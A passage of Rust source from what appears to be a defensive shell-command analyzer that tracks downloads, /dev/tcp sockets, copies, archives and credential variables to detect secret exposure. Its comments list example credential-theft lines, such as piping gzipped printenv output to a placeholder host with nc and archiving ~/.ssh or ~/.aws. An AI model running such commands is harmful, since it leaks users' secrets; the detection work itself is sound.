        "if" | "then" | "elif" | "else" | "while" | "until" | "do" | "!"
    )
}

/// The text with a `;` after each complete compound command (a subshell, a `{ …; }` group,
/// a loop, an `if`, a `case`) that the failed tree shows right before a closing keyword
/// (`done`, `fi`, `esac`, `else`, `elif`, `}`) with no separator between them (the grammar
/// wraps it in an error, or supplies the `;` as a missing node), or `None` when there is none.
/// Only the separator bash does not need is added: what the line runs is unchanged.
fn terminate_compounds(src: &str, root: Node<'_>) -> Option<String> {
    let keyword = |k: &str| matches!(k, "done" | "fi" | "esac" | "else" | "elif" | "}");
    // The keyword as a token, the clause it opens, or a word the failed parse read it as.
    let closing = |n: Node<'_>| match n.kind() {
        "else_clause" | "elif_clause" => true,
        "word" => src.get(n.byte_range()).is_some_and(keyword),
        k => !n.is_named() && keyword(k),
    };
    let mut at: Vec<usize> = Vec::new();
    let mut stack = vec![root];
    while let Some(node) = stack.pop() {
        if !node.has_error() {
            continue;
        }
        let mut cursor = node.walk();
        for c in node.children(&mut cursor) {
            stack.push(c);
            let compound = !c.has_error()
                && matches!(
                    c.kind(),
                    "subshell"
                        | "compound_statement"
                        | "for_statement"
                        | "c_style_for_statement"
                        | "while_statement"
                        | "if_statement"
                        | "case_statement"
                );
            // The compound command may end an error node: the keyword follows that.
            let mut next = c.next_sibling();
            if next.is_none() && node.kind() == "ERROR" {
                next = node.next_sibling();
            }
            if let Some(n) = next.filter(|n| n.is_missing() && n.kind() == ";") {
                next = n.next_sibling();
            }
            if compound
                && next.is_some_and(|n| closing(n) && n.start_byte() >= c.end_byte())
                && src
                    .get(c.end_byte()..next.map_or(c.end_byte(), |n| n.start_byte()))
                    .is_some_and(|gap| gap.chars().all(|ch| ch == ' ' || ch == '\t'))
            {
                at.push(c.end_byte());
            }
        }
    }
    inserted_at(src, at, ';')
}

/// `src` with `ch` inserted before each byte offset in `at` (the repairs' one edit), or
/// `None` when there is none or one is not on a character boundary.
fn inserted_at(src: &str, mut at: Vec<usize>, ch: char) -> Option<String> {
    if at.is_empty() {
        return None;
    }
    at.sort_unstable_by(|a, b| b.cmp(a));
    at.dedup();
    let mut out = src.to_owned();
    for i in at {
        if !out.is_char_boundary(i) {
            return None;
        }
        out.insert(i, ch);
    }
    Some(out)
}

/// `cat >> f <<< 'x'`: tree-sitter-bash accepts a here-string only before a statement's other
/// redirects (after one it reads `<<` as an error and then `< x`). bash applies redirects left
/// to right, and a here-string feeding fd 0 commutes with redirects of other descriptors to
/// files, so this returns the text with each such here-string moved to right after its
/// command (`cat <<< 'x' >> f`), found in the failed tree — or `None` when there is none, or
/// when moving one could change what a redirect refers to (another redirect of that statement
/// reads, duplicates or closes a descriptor, or feeds fd 0 itself).
fn herestrings_first(src: &str, root: Node<'_>) -> Option<String> {
    // (position, bytes removed, text inserted), applied from the end.
    let mut edits: Vec<(usize, usize, String)> = Vec::new();
    let mut stack = vec![root];
    while let Some(node) = stack.pop() {
        let mut cursor = node.walk();
        stack.extend(node.children(&mut cursor));
        if node.kind() != "ERROR" || src.get(node.byte_range()) != Some("<<") {
            continue;
        }
        let (Some(parent), Some(next)) = (node.parent(), node.next_sibling()) else {
            continue;
        };
        let Some(body) = parent.child_by_field_name("body") else {
            continue;
        };
        let operator = next.child(0).map(|o| o.kind());
        if parent.kind() != "redirected_statement"
            || next.kind() != "file_redirect"
            || next.start_byte() != node.end_byte()
            || operator != Some("<")
            || body.end_byte() > node.start_byte()
            || !only_output_redirects(parent, body, node, next, src)
        {
            return None;
        }
        let moved = src.get(node.start_byte()..next.end_byte())?;
        edits.push((body.end_byte(), 0, format!(" {moved}")));
        edits.push((
            node.start_byte(),
            next.end_byte() - node.start_byte(),
            String::new(),
        ));
    }
    if edits.is_empty() {
        return None;
    }
    edits.sort_by_key(|e| std::cmp::Reverse(e.0));
    let mut out = src.to_owned();
    for (at, removed, inserted) in edits {
        let end = at.checked_add(removed)?;
        if end > out.len() || !out.is_char_boundary(at) || !out.is_char_boundary(end) {
            return None;
        }
        out.replace_range(at..end, &inserted);
    }
    Some(out)
}

/// True when every redirect of `statement` other than the broken here-string (`error`,
/// `rest`) writes a file from a descriptor other than 0, and its body has no redirect of its
/// own: then moving the here-string first changes nothing bash does.
fn only_output_redirects(
    statement: Node<'_>,
    body: Node<'_>,
    error: Node<'_>,
    rest: Node<'_>,
    src: &str,
) -> bool {
    let mut cursor = body.walk();
    if body
        .children(&mut cursor)
        .any(|c| c.kind().ends_with("redirect"))
    {
        return false;
    }
    let mut cursor = statement.walk();
    statement.named_children(&mut cursor).all(|c| {
        if c == body || c == error || c == rest {
            return true;
        }
        // A digit glued to the redirect is its descriptor to bash, an argument to the grammar
        // (`cat 0>f`): not known to be another descriptor.
        let glued = c
            .start_byte()
            .checked_sub(1)
            .and_then(|i| src.as_bytes().get(i))
            .is_some_and(u8::is_ascii_digit);
        if c.kind() != "file_redirect" || glued {
            return false;
        }
        let mut inner = c.walk();
        let parts: Vec<Node<'_>> = c.children(&mut inner).collect();
        let is = |p: &Node<'_>, kind: &str| p.kind() == kind;
        let word = |p: &Node<'_>| src.get(p.byte_range()).unwrap_or("");
        let fd0 = parts
            .iter()
            .any(|p| is(p, "file_descriptor") && word(p) == "0");
        // To a file, or a copy of a descriptor other than 0 (`2>&1`).
        let output = parts
            .iter()
            .any(|p| !p.is_named() && matches!(p.kind(), ">" | ">>" | ">|" | "&>" | "&>>"))
            || (parts.iter().any(|p| is(p, ">&"))
                && parts.iter().any(|p| {
                    p.is_named()
                        && !is(p, "file_descriptor")
                        && !word(p).is_empty()
                        && word(p).bytes().all(|b| b.is_ascii_digit())
                        && word(p) != "0"
                }));
        output && !fd0
    })
}

/// `/dev/tcp/host/port` or `/dev/udp/host/port` (bash opens a socket for these).
pub(crate) fn socket_endpoint(word: &Word) -> Option<String> {
    if !word.exact {
        return None;
    }
    let rest = word
        .text
        .strip_prefix("/dev/tcp/")
        .or_else(|| word.text.strip_prefix("/dev/udp/"))?;
    Some(rest.to_owned())
}

/// Shells and interpreters: what executes the data it is given.
fn is_executor(name: &str) -> bool {
    crate::resolve::is_shell(name) || crate::resolve::is_interpreter(name)
}

/// The program of an executed command whose commands come from stdin or a terminal (no
/// `-c`/`-e` code, no script operand): `sh`, `bash -i`, `python3 -`, `/bin/sh -s`.
fn reads_commands_from_stdin(c: &ExecutedCommand) -> Option<String> {
    stdin_executor(&c.argv)
}

/// [`reads_commands_from_stdin`] for an argv.
fn stdin_executor(argv: &[String]) -> Option<String> {
    let name = crate::resolve::command_name(argv.first()?);
    if !is_executor(&name) {
        return None;
    }
    let rest = argv.get(1..).unwrap_or(&[]);
    let mut operands = rest
        .iter()
        .filter(|a| !a.starts_with('-') && !a.starts_with('+'));
    let code_flag = rest.iter().any(|a| {
        a.starts_with('-')
            && !a.starts_with("--")
            && a.chars()
                .skip(1)
                .any(|ch| matches!(ch, 'c' | 'e' | 'r' | 'm' | 'E'))
    });
    (!code_flag && operands.next().is_none()).then_some(name)
}

/// The normalised path of a word, against the scope's directory.
fn place(text: &str, scope: &Scope, ctx: &Context) -> Option<PathBuf> {
    place_in(text, &scope.cwd, ctx)
}

/// The normalised path of a word, against `cwd` (`None` for a relative path in an unknown
/// directory).
pub(crate) fn place_in(text: &str, cwd: &Cwd, ctx: &Context) -> Option<PathBuf> {
    let base = match cwd {
        Cwd::Known(p) => p.as_path(),
        Cwd::Unknown if text.starts_with('/') || text.starts_with('~') => Path::new("/"),
        Cwd::Unknown => return None,
    };
    Some(hookgate_paths::normalize(text, base, ctx.home.as_deref()).path)
}

/// The last path component of a remote or local path (`host:dir/x.sh` → `x.sh`).
fn base_name(path: &str) -> &str {
    let path = path.split_once("://").map_or(path, |(_, r)| r);
    let path = path.split(['?', '#']).next().unwrap_or(path);
    let path = path.rsplit_once(':').map_or(path, |(_, p)| p);
    path.trim_end_matches('/')
        .rsplit('/')
        .next()
        .unwrap_or(path)
}

/// A remote source of a copy tool: `host:path`, `user@host:path`, `rsync://…`, `s3://…`,
/// `gs://…`, `remote:path` (rclone), a URL.
/// An `scp`/`rsync` operand naming another machine, by the tools' own rule: a colon before
/// any slash (`host:path`, `x:/tmp`, `user@h:`), or a URL (`rsync://`). Wider than
/// [`is_remote_path`], which also keeps drive-letter-like words local.
fn copy_remote(word: &str) -> bool {
    if word.starts_with('-') {
        return false;
    }
    word.contains("://")
        || word
            .split_once(':')
            .is_some_and(|(host, _)| !host.is_empty() && !host.contains('/'))
}

fn is_remote_path(word: &str) -> bool {
    if word.starts_with('-') {
        return false;
    }
    if let Some((scheme, _)) = word.split_once("://") {
        return !scheme.eq_ignore_ascii_case("file");
    }
    // `host:path` (not `./a:b`, not a Windows drive, not a local absolute path).
    word.split_once(':').is_some_and(|(host, _)| {
        !host.is_empty()
            && !host.contains('/')
            && host.len() > 1
            && host
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '@'))
    })
}

/// What a transfer tool brings from the network: `(local path, whole directory)` pairs.
/// Covers the downloaders (`curl`, `wget`, `aria2c`, `axel`, httpie `--download`), copies from
/// a remote (`scp`, `rsync`, `aws s3 cp`, `gsutil cp`, `rclone copy`) and clones (`git clone`,
/// `gh repo clone`, `hg clone`, `svn checkout`), whose whole tree is from the network.
fn network_outputs(name: &str, words: &[Word]) -> Vec<(String, bool)> {
    if !matches!(
        name,
        "curl"
            | "wget"
            | "aria2c"
            | "axel"
            | "http"
            | "https"
            | "xh"
            | "xhs"
            | "scp"
            | "rsync"
            | "sftp"
            | "aws"
            | "gsutil"
            | "rclone"
            | "git"
            | "hg"
            | "gh"
            | "svn"
    ) {
        return Vec::new();
    }
    let operands: Vec<&str> = {
        let mut out = Vec::new();
        let mut skip = false;
        for w in words {
            let t = w.text.as_str();
            if skip {
                skip = false;
                continue;
            }
            if t.starts_with('-') && t.len() > 1 {
                // The value options of the copy tools that would otherwise look like operands.
                skip = !t.contains('=')
                    && matches!(
                        (name, t),
                        (
                            "scp" | "rsync",
                            "-i" | "-P" | "-p" | "-o" | "-F" | "-e" | "-J" | "-c" | "-l" | "-S"
                        ) | ("git" | "gh" | "hg", "-b" | "--branch" | "--depth" | "-o")
                            | ("svn", "--username" | "-r")
                            | ("aws" | "gsutil" | "rclone", "--profile" | "--region")
                            | ("axel", "-o" | "-n" | "-s")
                            | ("http" | "https" | "xh" | "xhs", "-o" | "--output" | "-a")
                    );
                continue;
            }
            out.push(t);
        }
        out
    };
    let copy_from_remote = |sources: &[&str], dest: &str| {
        let mut out = Vec::new();
        for s in sources.iter().filter(|s| is_remote_path(s)) {
            let b = base_name(s);
            if !b.is_empty() && b != "." {
                out.push((format!("{}/{b}", dest.trim_end_matches('/')), false));
            }
            out.push((dest.to_owned(), false));
        }
        out
    };
    match name {
        "curl" | "wget" | "aria2c" => download_outputs(name, words)
            .into_iter()
            .map(|o| (o, false))
            .collect(),
        "axel" => match output_option(words) {
            Some(n) => vec![(n, false)],
            None => operands
                .iter()
                .map(|u| (base_name(u).to_owned(), false))
                .collect(),
        },
        "http" | "https" | "xh" | "xhs" => {
            let download = words.iter().any(|w| {
                w.text == "--download"
                    || w.text == "-d"
                    || w.text.starts_with("-d") && w.text.len() <= 4 && !w.text.starts_with("--")
            });
            if !download {
                return Vec::new();
            }
            match output_option(words) {
                Some(n) => vec![(n, false)],
                None => operands
                    .iter()
                    .filter(|u| !u.bytes().all(|b| b.is_ascii_alphabetic()))
                    .take(1)
                    .map(|u| (base_name(u).to_owned(), false))
                    .collect(),
            }
        }
        "scp" | "rsync" | "sftp" => match operands.split_last() {
            Some((dest, sources)) if !is_remote_path(dest) => copy_from_remote(sources, dest),
            _ => Vec::new(),
        },
        "aws" | "gsutil" | "rclone" => {
            let rest: &[&str] = match (name, operands.as_slice()) {
                ("aws", ["s3", "cp" | "sync" | "mv", rest @ ..])
                | ("gsutil", ["cp" | "rsync" | "mv", rest @ ..])
                | ("rclone", ["copy" | "copyto" | "sync" | "move", rest @ ..]) => rest,
                _ => &[],
            };
            match rest.split_last() {
                Some((dest, sources)) if !is_remote_path(dest) => copy_from_remote(sources, dest),
                _ => Vec::new(),
            }
        }
        "git" | "hg" => match operands.as_slice() {
            ["clone", url, dir, ..] if is_remote_path(url) => vec![((*dir).to_owned(), true)],
            ["clone", url] if is_remote_path(url) => {
                let b = base_name(url);
                vec![(b.strip_suffix(".git").unwrap_or(b).to_owned(), true)]
            }
            _ => Vec::new(),
        },
        "gh" => match operands.as_slice() {
            ["repo", "clone", _, dir, ..] => vec![((*dir).to_owned(), true)],
            ["repo", "clone", repo] => vec![(base_name(repo).to_owned(), true)],
            ["release", "download", ..] => vec![(".".to_owned(), false)],
            _ => Vec::new(),
        },
        "svn" => match operands.as_slice() {
            ["checkout" | "co" | "export", url, dir, ..] if is_remote_path(url) => {
                vec![((*dir).to_owned(), true)]
            }
            ["checkout" | "co" | "export", url] if is_remote_path(url) => {
                vec![(base_name(url).to_owned(), true)]
            }
            _ => Vec::new(),
        },
        _ => Vec::new(),
    }
}

/// The file named by `-o FILE`, `--output FILE` or `--output=FILE`.
fn output_option(words: &[Word]) -> Option<String> {
    words.iter().enumerate().find_map(|(i, w)| {
        w.text
            .strip_prefix("--output=")
            .map(str::to_owned)
            .or_else(|| {
                matches!(w.text.as_str(), "-o" | "--output")
                    .then(|| words.get(i + 1).map(|v| v.text.clone()))
                    .flatten()
            })
    })
}

/// Options that name a program's output file.
const OUTPUT_OPTIONS: &[&str] = &[
    "-o",
    "--output",
    "-out",
    "--out",
    "--outfile",
    "--output-file",
];

/// First bytes of [`OUTPUT_OPTIONS`]: [`option_output`] looks at every word of every command,
/// and most words (operands, other options) are rejected by one load.
const OUTPUT_FIRST: [bool; 256] = {
    let mut t = [false; 256];
    let mut i = 0;
    while i < OUTPUT_OPTIONS.len() {
        let b = OUTPUT_OPTIONS[i].as_bytes();
        if !b.is_empty() {
            t[b[0] as usize] = true;
        }
        i += 1;
    }
    t
};

/// Any other program writing an output file named by an option (`-o F`, `--output F`,
/// `-out F`, `--outfile=F`, dd's `of=F`): its other path-like operands (and `-in F`, `if=F`)
/// are what it read, so a credential among them makes the output a secret too (`iconv .env
/// -o /tmp/e`, `sort -o /tmp/s ~/.aws/credentials`, `openssl enc -in KEY -out F`).
fn option_output<'w>(name: &str, words: &'w [Word]) -> Option<(&'w str, Vec<&'w str>)> {
    let names_output = words.iter().any(|w| {
        let t = w.text.as_str();
        t.starts_with("of=")
            || (t
                .bytes()
                .next()
                .is_some_and(|b| OUTPUT_FIRST[usize::from(b)])
                && (OUTPUT_OPTIONS.contains(&t)
                    || t.split_once('=')
                        .is_some_and(|(k, _)| OUTPUT_OPTIONS.contains(&k))))
    });
    if !names_output || is_non_emitting(name) {
        return None;
    }
    let mut out = None;
    let mut inputs = Vec::new();
    let mut i = 0;
    while let Some(w) = words.get(i) {
        i += 1;
        let t = w.text.as_str();
        if OUTPUT_OPTIONS.contains(&t) {
            out = words.get(i).map(|v| v.text.as_str());
            i += 1;
        } else if let Some(v) = t
            .split_once('=')
            .filter(|(k, _)| OUTPUT_OPTIONS.contains(k) || *k == "of")
            .map(|(_, v)| v)
        {
            out = Some(v);
        } else if let Some(v) = t.strip_prefix("if=") {
            inputs.push(v);
        } else if matches!(t, "-in" | "--in" | "--input" | "-i") {
            inputs.extend(words.get(i).map(|v| v.text.as_str()));
            i += 1;
        } else if !t.starts_with('-') && (t.contains('/') || t.starts_with(['.', '~'])) {
            inputs.push(t);
        }
    }
    Some((out?, inputs))
}

/// `split FILE PREFIX`, `csplit -f PREFIX FILE PATTERN…`: the pieces a splitter cuts its input
/// into, as the pattern that names them all (`PREFIX*`; split's default prefix is `x`,
/// csplit's `xx`) with the input file. Each piece holds part of the input, so a secret input
/// makes every piece secret ([`LineState::secret_at`] matches the pattern). `None` when the
/// input is standard input (`-`), which the pipe already carries.
fn piece_family<'w>(name: &str, words: &'w [Word]) -> Option<(String, &'w str)> {
    let (input, prefix) = match name {
        "split" | "gsplit" => {
            let operands = crate::optexec::split_operands(words);
            let input = operands.first()?;
            let prefix = operands.get(1).map_or("x", |w| w.text.as_str());
            (*input, prefix.to_owned())
        }
        "csplit" | "gcsplit" => {
            let mut prefix = "xx".to_owned();
            let mut input = None;
            let mut it = words.iter();
            while let Some(w) = it.next() {
                let t = w.text.as_str();
                if matches!(t, "-f" | "--prefix") {
                    prefix.clone_from(&it.next()?.text);
                } else if let Some(v) = t.strip_prefix("--prefix=") {
                    v.clone_into(&mut prefix);
                } else if let Some(v) = t.strip_prefix("-f").filter(|v| !v.is_empty()) {
                    v.clone_into(&mut prefix);
                } else if matches!(t, "-b" | "--suffix-format" | "-n" | "--digits") {
                    it.next();
                } else if t.starts_with('-') && t.len() > 1 {
                } else if input.is_none() {
                    input = Some(w);
                }
            }
            (input?, prefix)
        }
        _ => return None,
    };
    if !input.exact || input.text == "-" || !prefix.bytes().all(|b| b != b'*') {
        return None;
    }
    Some((format!("{prefix}*"), input.text.as_str()))
}

/// Compressors and decompressors that write each file operand beside itself under a new
/// name (`gzip F` → `F.gz`, `xz F` → `F.xz`, `gunzip F.gz` → `F`, `gpg -c F` → `F.gpg`;
/// gpg's `-c` is "symmetric", not "stdout"):
/// `(output, input)` pairs. The output holds what the input held, so a secret the line put in
/// `F` is still a secret in `F.gz` (`printenv > /tmp/k; gzip /tmp/k; nc H P < /tmp/k.gz`).
/// Empty when the tool writes to stdout (`-c`, `--stdout`; the pipe carries it instead) or
/// only tests or lists.
fn in_place_outputs<'w>(name: &str, words: &'w [Word]) -> Vec<(String, &'w str)> {
    let (suffix, decompress_default) = match name {
        "gzip" | "pigz" => (".gz", false),
        "gunzip" | "unpigz" => (".gz", true),
        "bzip2" | "pbzip2" | "lbzip2" => (".bz2", false),
        "bunzip2" => (".bz2", true),
        "xz" | "pixz" => (".xz", false),
        "unxz" => (".xz", true),
        "lzma" => (".lzma", false),
        "unlzma" => (".lzma", true),
        "zstd" | "pzstd" => (".zst", false),
        "unzstd" => (".zst", true),
        "lz4" => (".lz4", false),
        "brotli" => (".br", false),
        "lzop" => (".lzo", false),
        "compress" => (".Z", false),
        "gpg" | "gpg2" => (".gpg", false),
        _ => return Vec::new(),
    };
    let mut suffix = suffix.to_owned();
    let mut decompress = decompress_default;
    let mut operands = Vec::new();
    let gpg = suffix == ".gpg";
    let mut it = words.iter();
    while let Some(w) = it.next() {
        let t = w.text.as_str();
        if gpg {
            match t {
                "-o" | "--output" | "-d" | "--decrypt" | "--list-packets" | "--verify" => {
                    return Vec::new();
                }
                "-a" | "--armor" | "--clearsign" => ".asc".clone_into(&mut suffix),
                "-r" | "--recipient" | "-u" | "--local-user" | "--passphrase" | "--cipher-algo"
                | "--passphrase-file" | "--homedir" | "--default-key" | "--pinentry-mode" => {
                    it.next();
                }
                _ if t.starts_with("--output=") => return Vec::new(),
                // A short cluster (`-ca`, `-sea`): `o` names the output, `d` decrypts to stdout.
                _ if t.starts_with('-') && !t.starts_with("--") && t.len() > 2 => {
                    if t.contains(['o', 'd']) {
                        return Vec::new();
                    }
                    if t.contains('a') {
                        ".asc".clone_into(&mut suffix);
                    }
                    if t.contains('r') || t.contains('u') {
                        it.next();
                    }
                }
                _ if t.starts_with('-') => {}
                _ => operands.push(t),
            }
            continue;
        }
        match t {
            "-c" | "--stdout" | "--to-stdout" | "-t" | "--test" | "-l" | "--list" | "-o"
            | "--output" => return Vec::new(),
            "-d" | "--decompress" | "--uncompress" | "--decrypt" => decompress = true,
            "-S" | "--suffix" => suffix = it.next().map_or(suffix, |v| v.text.clone()),
            _ if t.starts_with("--suffix=") => {
                t["--suffix=".len()..].clone_into(&mut suffix);
            }
            // A short cluster that writes to stdout (`gzip -9c`, `xz -dc`).
            _ if t.starts_with('-') && !t.starts_with("--") && t.len() > 1 => {
                let c = &t[1..];
                if c.contains('c') || c.contains('t') || c.contains('l') {
                    return Vec::new();
                }
                if c.contains('d') {
                    decompress = true;
                }
            }
            _ if t.starts_with('-') => {}
            _ => operands.push(t),
        }
    }
    operands
        .into_iter()
        .filter_map(|o| {
            if decompress {
                o.strip_suffix(suffix.as_str())
                    .filter(|b| !b.is_empty())
                    .map(|b| (b.to_owned(), o))
            } else {
                Some((format!("{o}{suffix}"), o))
            }
        })
        .collect()
}

/// Archive tools, copies and links whose output holds what they read: `(output, inputs)`
/// (`cp ~/.ssh/id_rsa /tmp/k`, `ln -s ~/.aws/credentials r.txt`, `tar czf /tmp/a.tgz ~/.aws`,
/// `zip -r k.zip ~/.ssh`).
fn copy_outputs<'w>(name: &str, words: &'w [Word]) -> Option<(&'w str, Vec<&'w str>)> {
    if !matches!(
        name,
        "cp" | "install" | "rsync" | "ditto" | "ln" | "zip" | "7z" | "7za" | "tar" | "gtar"
    ) {
        return None;
    }
    let mut operands: Vec<&str> = Vec::new();
    let mut target: Option<&str> = None;
    let mut it = words.iter();
    while let Some(w) = it.next() {
        let t = w.text.as_str();
        if let Some(d) = t.strip_prefix("--target-directory=") {
            target = Some(d);
        } else if matches!(t, "-t" | "--target-directory") && name != "rsync" {
            target = it.next().map(|v| v.text.as_str());
        } else if matches!(
            t,
            "-e" | "--rsh"
                | "-S"
                | "--suffix"
                | "--exclude"
                | "--include"
                | "-m"
                | "--mode"
                | "-o"
                | "-g"
                | "--owner"
                | "--group"
                | "-f"
                | "--filter"
        ) && name != "zip"
        {
            it.next();
        } else if name == "zip"
            && matches!(
                t,
                "-P" | "--password"
                    | "-b"
                    | "--temp-path"
                    | "-n"
                    | "--suffixes"
                    | "-t"
                    | "-tt"
                    | "-Z"
                    | "--compression-method"
                    | "-s"
                    | "--split-size"
            )
        {
            // zip's options with a value (`zip -r -P pass out.zip ~/.aws`): the value is not
            // the archive.
            it.next();
        } else if !(t.starts_with('-') && t.len() > 1) {
            operands.push(t);
        }
    }
    match name {
        // A link to a credential reads as the credential.
        "cp" | "install" | "rsync" | "ditto" | "ln" => {
            let (dest, sources) = match target {
                Some(d) => (d, operands.as_slice()),
                None => operands.split_last().map(|(d, s)| (*d, s))?,
            };
            (!is_remote_path(dest)).then(|| (dest, sources.to_vec()))
        }
        "zip" | "7z" | "7za" => {
            let ops = if name == "zip" {
                operands.as_slice()
            } else {
                operands.get(1..)?
            };
            let (out, inputs) = ops.split_first()?;
            Some((out, inputs.to_vec()))
        }
        "tar" | "gtar" => {
            // `tar czf OUT IN…`, `tar -czf OUT IN…`, `tar --file=OUT -c IN…`.
            let mut out = None;
            let mut inputs = Vec::new();
            let mut i = 0;
            let mut creating = false;
            while let Some(w) = words.get(i) {
                i += 1;
                let t = w.text.as_str();
                if let Some(f) = t.strip_prefix("--file=") {
                    out = Some(f);
                } else if t == "--create" {
                    creating = true;
                } else if (t.starts_with('-') && !t.starts_with("--"))
                    || (i == 1 && t.bytes().all(|b| b.is_ascii_alphabetic()))
                {
                    creating |= t.contains('c');
                    if t.ends_with('f') {
                        out = words.get(i).map(|v| v.text.as_str());
                        i += 1;
                    }
                } else if !t.starts_with('-') {
                    inputs.push(t);
                }
            }
            (creating).then_some(())?;
            Some((out?, inputs))
        }
        _ => None,
    }
}

/// The report file a secret scanner writes (`gitleaks detect -r report.json`,
/// `ggshield … -o out.json`).
fn scanner_report(words: &[Word]) -> Option<&str> {
    let mut it = words.iter();
    while let Some(w) = it.next() {
        let t = w.text.as_str();
        if let Some((opt, v)) = t.split_once('=')
            && matches!(
                opt,
                "--report-path" | "--report" | "--output" | "--output-file" | "--out"
            )
        {
            return Some(v);
        }
        if matches!(
            t,
            "-r" | "--report-path" | "--report" | "-o" | "--output" | "--output-file" | "--out"
        ) {
            return it.next().map(|v| v.text.as_str());
        }
    }
    None
}

/// The files a downloader writes (`curl -o f`, `curl -O URL`, `wget URL`, `wget -O f`).
fn download_outputs(name: &str, words: &[Word]) -> Vec<String> {
    let mut out = Vec::new();
    let mut remote_name = name == "wget";
    let mut dir: Option<String> = None;
    let mut urls = Vec::new();
    let mut i = 0;
    let value = |i: usize| words.get(i).map(|w| w.text.clone());
    while let Some(w) = words.get(i) {
        i += 1;
        let t = w.text.as_str();
        let (output_opts, dir_opts): (&[&str], &[&str]) = match name {
            "curl" => (&["-o", "--output"], &["--output-dir"]),
            "wget" => (&["-O", "--output-document"], &["-P", "--directory-prefix"]),
            "aria2c" => (&["-o", "--out"], &["-d", "--dir"]),
            _ => (&[], &[]),
        };
        if let Some((opt, v)) = t.split_once('=')
            && opt.starts_with("--")
        {
            if output_opts.contains(&opt) {
                out.push(v.to_owned());
                remote_name = false;
            } else if dir_opts.contains(&opt) {
                dir = Some(v.to_owned());
            }
            continue;
        }
        if t.starts_with("--") {
            if output_opts.contains(&t) {
                out.extend(value(i));
                remote_name = false;
                i += 1;
            } else if dir_opts.contains(&t) {
                dir = value(i);
                i += 1;
            } else if name == "curl" && t == "--remote-name" {
                remote_name = true;
            }
            continue;
        }
        if let Some(cluster) = t.strip_prefix('-').filter(|c| !c.is_empty()) {
            // Short clusters: the value of the last letter may follow (`-sLo f`, `-qO-`).
            for (pos, ch) in cluster.char_indices() {
                let flag = format!("-{ch}");
                let attached = cluster.get(pos + ch.len_utf8()..).unwrap_or("");
                let takes =
                    output_opts.contains(&flag.as_str()) || dir_opts.contains(&flag.as_str());
                if name == "curl" && ch == 'O' {
                    remote_name = true;
                    continue;
                }
                if takes {
                    let v = if attached.is_empty() {
                        i += 1;
                        value(i - 1)
                    } else {
                        Some(attached.to_owned())
                    };
                    if output_opts.contains(&flag.as_str()) {
                        out.extend(v);
                        remote_name = false;
                    } else {
                        dir = v;
                    }
                    break;
                }
            }
            continue;
        }
        urls.push(t.to_owned());
    }
    if remote_name {
        for u in urls {
            let path = u.split(['?', '#']).next().unwrap_or("");
            let after_host = path.split_once("://").map_or(path, |(_, r)| r);
            let file = after_host
                .split_once('/')
                .map_or("", |(_, p)| p.rsplit('/').next().unwrap_or(""));
            let file = if file.is_empty() { "index.html" } else { file };
            out.push(file.to_owned());
        }
    }
    out.retain(|o| o != "-" && !o.is_empty());
    match dir {
        Some(d) => out
            .into_iter()
            .map(|o| format!("{}/{o}", d.trim_end_matches('/')))
            .collect(),
        None => out,
    }
}

/// Whether an expansion of `name` (its source text `raw`, found by the grammar as an
/// `expansion` node) yields the variable's value or enough of it to matter: not its length
/// (`${#TOKEN}`), not a word used only when it is set (`${TOKEN:+set}`, `${TOKEN+x}`), not a
/// short fixed slice (`${KEY:0:4}`, at most 8 characters: the prefix people print to tell keys
/// apart).
fn carries_value(raw: &str, name: &str) -> bool {
    let Some(inner) = raw.strip_prefix("${").and_then(|r| r.strip_suffix('}')) else {
        return true;
    };
    if inner.starts_with('#') && inner.len() > 1 {
        return false;
    }
    let Some(rest) = inner.strip_prefix(name) else {
        return true;
    };
    if rest.starts_with(":+") || rest.starts_with('+') {
        return false;
    }
    // `:OFFSET:LENGTH` with literal numbers.
    let slice = rest.strip_prefix(':').and_then(|r| {
        let (offset, length) = r.split_once(':')?;
        let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
        (digits(offset.trim()) && digits(length.trim()))
            .then(|| length.trim().parse::<u32>().ok())?
    });
    slice.is_none_or(|len| len > 8)
}

/// The secret an unresolved `$NAME`/`${NAME…}` expansion carries: a credential-shaped name, or
/// a variable assigned secret data earlier in the line.
pub(crate) fn secret_variable(
    node: tree_sitter::Node<'_>,
    src: &str,
    scope: &Scope,
) -> Option<FlowSource> {
    let mut cursor = node.walk();
    // `${a[*]}`/`${a[0]}`: an element of an array (`mapfile -t a < .env`) is the array's data.
    let name = node
        .children(&mut cursor)
        .find_map(|c| match c.kind() {
            "variable_name" => Some(c),
            "subscript" => c.child_by_field_name("name"),
            _ => None,
        })
        .map(|c| crate::walk::text(c, src))?;
    if !carries_value(crate::walk::text(node, src), name) {
        return None;
    }
    if let Some((_, source)) = scope.secret_vars.iter().rev().find(|(n, _)| n == name) {
        return Some(source.clone());
    }
    is_credential_variable(name).then(|| FlowSource::CredentialVariable {
        name: name.to_owned(),
    })
}

impl Walker<'_> {
    /// After a statement with redirects ran (its commands are `self.commands[before..]`, its
    /// redirects pushed `self.sockets[sockets..]` and `self.written[written..]`): judges its
    /// sockets and remembers files a download was written to.
    pub(crate) fn after_redirects(
        &mut self,
        before: usize,
        sockets: usize,
        written: usize,
        output: &Producer,
        scope: &mut Scope,
    ) {
        let endpoints: Vec<String> = self
            .sockets
            .drain(sockets.min(self.sockets.len())..)
            .collect();
        let targets: Vec<Word> = self
            .written
            .drain(written.min(self.written.len())..)
            .collect();
        if !endpoints.is_empty() {
            self.judge_sockets(before, &endpoints, output, scope);
        }
        if !targets.is_empty() && !scope.remote {
            let origin = match output {
                Producer::Download => Some(None),
                // Found files' contents are ordinary files once written: only sending them
                // out is judged (a bundle committed or read later is not a credential).
                Producer::Secret(FlowSource::FoundFiles { .. }) => None,
                Producer::Secret(s) => Some(Some(s.clone())),
                _ => None,
            };
            if let Some(origin) = origin {
                for t in targets.iter().filter(|t| t.exact) {
                    let Some(p) = place(&t.text, scope, self.ctx) else {
                        continue;
                    };
                    match &origin {
                        None => self.files.downloaded.push((p, false)),
                        Some(s) => self.files.secret.push((p, s.clone())),
                    }
                }
            }
        }
    }

    /// `printenv GITHUB_TOKEN`, `echo "$OPENAI_API_KEY"`, `env | grep -i token`: a
    /// statement whose output reaches the agent (nothing takes it: no pipe, substitution,
    /// group or file — `Walker::captured` is zero) prints a secret held in the environment.
    /// The agent reading it is the exposure `cat .env` is (`cred.show_secret_variable`).
    /// Only secrets the environment holds by name or by a credential filter: a whole dump
    /// (`env`) is ordinary debugging, a credential file's content is judged by its read,
    /// and a command's printed token by that command's rule. `before` is the record count
    /// when the statement started: its last record names what printed it.
